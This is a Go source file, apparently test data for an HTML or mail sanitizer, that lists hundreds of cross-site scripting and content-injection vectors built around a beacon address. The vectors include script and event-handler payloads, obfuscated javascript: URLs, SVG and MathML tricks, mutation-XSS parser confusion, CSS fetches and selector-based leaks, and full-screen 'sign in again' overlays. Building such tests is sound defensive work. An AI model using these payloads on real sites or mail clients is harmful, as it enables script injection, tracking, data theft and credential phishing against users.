package hostile

import "strings"

// vectors are bodies of HTML: JS stands for a script, URL for an address of the beacon.
func vectors(beacon string) []string {
	var list []string
	for _, group := range []string{scripts, foreign, confusion, fetches, sheets, covers} {
		for v := range strings.SplitSeq(strings.TrimSpace(group), "\n") {
			v = strings.ReplaceAll(v, "JS", Script(beacon))
			list = append(list, strings.ReplaceAll(v, "URL", beacon))
		}
	}
	return list
}

// Script where HTML has room for it.
const scripts = `
<script>JS</script>
<script src=URLs.js></script>
<SCRIPT/XSS SRC="URLs.js"></SCRIPT>
<<script>JS;//<</script>
<scr<script>ipt>JS</scr</script>ipt>
<script>JS
<img src=x onerror="JS">
<img src=x onerror=JS//
<img/src/onerror=JS>
<img """><script>JS</script>">
<img src="javascript:JS">
<body onload="JS" onpageshow="JS" onfocus="JS" background="javascript:JS">
<a href="javascript:JS" id=click>click</a>
<a href="JaVaScRiPt&colon;JS">click</a>
<a href="java&Tab;script:JS">click</a>
<a href="java&NewLine;script:JS">click</a>
<a href="&#1;javascript:JS">click</a>
<a href=" &#14; javascript:JS">click</a>
<a href="&#x6A;avascript&#0000058;JS">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>JS</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="blob:null/x">click</a><a href="file:///etc/passwd">click</a><a href="filesystem:x">click</a>
<a href="/logout">click</a><a href="?x=1">click</a><a href="//example.com/x" ping="URLping">click</a>
<a href="http://example.com" onclick="JS" onmouseover="JS" style="display:block" target=_top download>click</a>
<iframe src="javascript:JS"></iframe>
<iframe srcdoc="<script>JS</script>"></iframe>
<iframe src="URLframe"></iframe><frameset><frame src="URLframe"></frameset>
<object data="javascript:JS"></object><object data="URLobject" type="text/html"></object>
<embed src="URLembed"><embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code="URLapplet" archive="URLapplet.jar"></applet>
<form action="URLform"><input type=text name=x autofocus onfocus="JS"><button formaction="javascript:JS">go</button></form>
<form id=f action="URLform"></form><button form=f>go</button><input type=image src="URLinput" form=f>
<isindex action="javascript:JS" type=image><keygen autofocus onfocus="JS">
<select autofocus onfocus="JS"><option>x</select><textarea autofocus onfocus="JS"></textarea>
<details open ontoggle="JS">x</details><marquee onstart="JS">x</marquee>
<video onerror="JS"><source src=x></video><audio src=x onerror="JS"></audio>
<video poster="javascript:JS" src="URLvideo" autoplay></video><audio src="URLaudio" autoplay></audio>
<div onpointerover="JS" tabindex=1 onfocus="JS" autofocus contenteditable onanimationstart="JS" style="animation:x 1s">x</div>
<meta http-equiv="refresh" content="0;url=javascript:JS"><meta http-equiv="refresh" content="0;url=URLmeta">
<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="a=b">
<base href="javascript:JS//"><base href="URLbase/"><a href="x">x</a><img src="x">
<link rel=stylesheet href="URLlink.css"><link rel=import href="URLimport"><link rel=preload as=image href="URLpreload">
<link rel=dns-prefetch href="URLdns"><link rel=prefetch href="URLprefetch"><link rel=icon href="URLicon"><link rel=manifest href="URLm">
<xss id=x tabindex=1 onfocus="JS"></xss><custom-element onclick="JS">x</custom-element>
<img src=x id=cookie name=body onerror=JS><a id=defaultView name=location href="#x">x</a>
`

// SVG, MathML and other grammars inside HTML.
const foreign = `
<svg onload="JS">
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href="URLs.js"/></svg>
<svg><a xlink:href="javascript:JS"><text y=20>click</text></a></svg>
<svg><animate onbegin="JS" attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to="JS"></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=JS></svg>#x"/><use href="URLuse#x"/></svg>
<svg><image href="URLimage"/><feImage href="URLfe"/><style>@import "URLsvg.css";</style></svg>
<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror="JS"></desc><title><img src=x onerror="JS"></title></svg>
<svg><style><img src=x onerror="JS"></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror="JS"></style></mglyph></table></mtext></math>
<math href="javascript:JS">click</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:JS">click</maction></math>
<math><annotation-xml encoding="text/html"><script>JS</script></annotation-xml></math>
<?xml-stylesheet href="URLxml.css"?><xml id=x><a><b>&lt;script&gt;JS&lt;/script&gt;</b></a></xml>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>">
<img src="data:text/html,<script>JS</script>">
<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="URLvml"/></v:shape>
<![CDATA[<script>JS</script>]]><!DOCTYPE x [<!ENTITY y SYSTEM "URLdtd">]>&y;
<!--[if gte IE 4]><script>JS</script><![endif]--><!--[if mso]><img src="URLmso"><![endif]-->
`

// What one parser reads otherwise than another: mutation XSS.
const confusion = `
<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
<style><p title="</style><img src=x onerror=JS>"></style>
<title><p title="</title><img src=x onerror=JS>"></title>
<textarea><p title="</textarea><img src=x onerror=JS>"></textarea>
<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>
<iframe><p title="</iframe><img src=x onerror=JS>"></iframe>
<noembed><p title="</noembed><img src=x onerror=JS>"></noembed>
<template><script>JS</script></template><template shadowrootmode=open><img src=x onerror="JS"></template>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">
<svg></p><style><a id="</style><img src=1 onerror=JS>">
<math><mi><table><mi><style><a title="</style><img src onerror=JS>">
<!--><img src=x onerror="JS">-->
<!--!> <img src=x onerror="JS"> --!><img src=x onerror="JS">
<!-- --!><img src=x onerror="JS">-->
<a title="&lt;img src=x onerror=JS&gt;"><b title='"><img src=x onerror=JS>'>x</b></a>
<img alt="` + "``" + `onerror=JS" src=x>
<img src="x` + "`" + ` onerror=JS` + "`" + `">
<plaintext><img src=x onerror="JS">
<select><style></select><img src=x onerror="JS"></style>
<table><td><svg><style><!--</td></style><img src=x onerror="JS">--></table>
<img src=x/onerror=JS/ ><svg src=x/>
<p id="</p><script>JS</script>" class='"><script>JS</script>'>x</p>
<a href="http://example.com/&quot;onmouseover=&quot;JS">x</a>
<a href='http://example.com/"><script>JS</script>'>x</a>
<font color='"><script>JS</script>'>x</font><td width="1 onload=JS">
`

// What is fetched without a script.
const fetches = `
<img src="URLimg"><img src=//127.0.0.1:1/x><img src="\\127.0.0.1\x"><img src="HTTP://127.0.0.1:1/">
<img srcset="URLsrcset 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">
<picture><source srcset="URLsource"><img src="URLpicture"></picture>
<table background="URLtable"><tr background="URLtr"><td background="URLtd">x</td></tr></table>
<body background="URLbody"><img lowsrc="URLlow" dynsrc="URLdyn" longdesc="URLlong">
<img src="ht&#116;p:URLcolon"><img src="&#104;ttp://127.0.0.1:1/entity"><img src="URLa&#9;b">
<blockquote cite="URLcite">x</blockquote><q cite="URLq">x</q><ins cite="URLins">x</ins>
<input type=image src="URLinput"><video poster="URLposter"></video><track src="URLtrack"><bgsound src="URLbgsound">
<img src="cid:nothing@here"><img src="cid:../../x"><img src="mid:x"><img src="/part?uid=1"><img src="x.png">
<img src="ftp://127.0.0.1/x"><img src="ws://127.0.0.1/x"><img src="about:blank"><img src="chrome://x">
<html manifest="URLmanifest"><head profile="URLprofile"><table><img src="URLintable"></table>
<button type=submit formaction="URLb">x</button><portal src="URLportal"></portal><fencedframe src="URLfenced"></fencedframe>
`

// Style sheets that fetch, run, or tell what stands beside them.
const sheets = `
<style>@import "URLimport.css"; @import url(URLimport2.css); @import'URLimport3.css';</style>
<style>@\69mport "URLescaped.css";@IMPORT url("URLupper.css");@/**/import "URLx";</style>
<style>@font-face{font-family:x;src:url(URLfont)} p{font-family:x}</style>
<style>@font-face{font-family:y;src:url(URLunicode);unicode-range:U+0041} p{font-family:y}</style>
<style>p{background:url(URLbg)} div{background-image:url("URLbg2")} b{list-style:url('URLls')}</style>
<style>p{background:ur\6c(URLescaped)} b{background:\75rl(URLescaped2)} i{background:u\72l("URLescaped3")}</style>
<style>p{background:URL(URLupper)} b{background:url( /**/ URLcomment )} i{background:url(
<style>a[href^="h"]{background:url(URLattr)} input[value^="a"]{background:url(URLinput)} :visited{background:url(URLvisited)}</style>
<style>p{background:image-set("URLset" 1x)} b{background:-webkit-image-set(url(URLset2) 1x)} i{background:image("URLimage")}</style>
<style>p{background:cross-fade(url(URLfade),url(URLfade2))} b{background:element(#x)} i{background:src("URLsrc")}</style>
<style>p{cursor:url(URLcursor),auto;content:url(URLcontent);mask:url(URLmask);clip-path:url(URLclip#x);filter:url(URLfilter#x)}</style>
<style>p{border-image:url(URLborder) 1;shape-outside:url(URLshape);offset-path:url(URLoffset);-webkit-mask-image:url(URLwk)}</style>
<style>:root{--x:url(URLvar);--y:} p{background:var(--x);background:env(x,url(URLenv))}</style>
<style>@supports (color:red){p{background:url(URLsupports)}} @media all{@import "URLm";p{background:url(URLmedia)}}</style>
<style>@namespace url(URLns); @charset "utf-7"; @page{background:url(URLpage)} @layer x{p{background:url(URLlayer)}}</style>
<style>@container x{p{background:url(URLc)}} @property --z{syntax:"<image>";initial-value:url(URLp)} @keyframes k{to{background:url(URLk)}}</style>
<style>@-moz-document url-prefix(){p{background:url(URLmoz)}} p{animation:k 1s;behavior:url(URLhtc);-moz-binding:url(URLxbl#x)}</style>
<style>p{width:expression(JS);background:url(javascript:JS);xss:expr/**/ession(JS);color:rgb(1,1,expression(JS))}</style>
<style></style><script>JS</script><style>p{content:"</style><script>JS</script>"}</style>
<style>p{content:"\3c/style\3e\3cscript\3eJS"} b{font-family:"</style><img src=x onerror=JS>"}</style>
<style><!-- p{color:red} --> b{background:url(URLcdo)} <script>JS</script></style>
<style>p{color:red;}}}body{background:url(URLbrace)} {} ;;; @media{{{{{}</style>
<style>p{background:url(URLnoend</style><style>"</style><style>/*</style><style>p{color:red</style>
<p style="background:url(URLinline)">x</p><p style="background-image:url('URLinline2')">x</p>
<p style="background:url&#40;URLentity&#41;">x</p><p style="background:\75 rl(URLesc)">x</p>
<p style="width:expression(JS)">x</p><p style="-moz-binding:url(URLxbl)">x</p><p style="behavior:url(URLhtc)">x</p>
<p style="color:red;}</style><script>JS</script>">x</p><p style='x:"&quot;><script>JS</script>'>x</p>
<p style="background:url(data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)">x</p>
<p style="background:/ * * url(URLcomment) */ red;content:'a' / * b">x</p>
<div style="background:url(//127.0.0.1:1/x),url(URLsecond),linear-gradient(red,blue)">x</div>
`

// Mail that covers what it should not.
const covers = `
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">sign in again</div>
<div style="position:f\69xed;inset:0">x</div><div style="position: STICKY;top:0">x</div><dialog open>x</dialog>
<style>*{position:fixed!important} html,body{display:none} div{position:var(--p,fixed)}</style><div popover>x</div>
`
